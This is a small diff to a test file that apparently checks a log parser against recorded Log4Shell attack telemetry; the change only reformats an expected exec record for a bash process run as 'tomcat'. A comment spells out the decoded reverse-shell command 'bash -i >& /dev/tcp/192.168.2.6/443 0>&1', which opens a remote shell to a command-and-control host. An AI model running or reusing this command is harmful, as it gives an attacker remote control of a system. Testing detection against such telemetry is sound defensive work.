@@ -32,8 +32,16 @@ describeFixtures('auoms: OTRF Log4Shell (Azure Log Analytics rows and plain line
   it('gets the reverse shell argv out of cmdline despite its unescaped inner quotes', () => {
     const shell = rows.records.find((r) => r.argv?.[2] === REVERSE_SHELL);
     expect(shell).toMatchObject({
-      kind: 'exec', argv: ['bash', '-c', REVERSE_SHELL], exe: '/bin/bash', userName: 'tomcat', uid: 1001, pid: 17790, ppid: 1340,
-      tsMs: 1652292621990, result: 'success', cwd: '/',
+      kind: 'exec',
+      argv: ['bash', '-c', REVERSE_SHELL],
+      exe: '/bin/bash',
+      userName: 'tomcat',
+      uid: 1001,
+      pid: 17790,
+      ppid: 1340,
+      tsMs: 1652292621990,
+      result: 'success',
+      cwd: '/',
     });
     expect(shell?.auid).toBeUndefined();
     // The base64 is `bash -i >& /dev/tcp/192.168.2.6/443 0>&1`, the C2 seen on the network side.
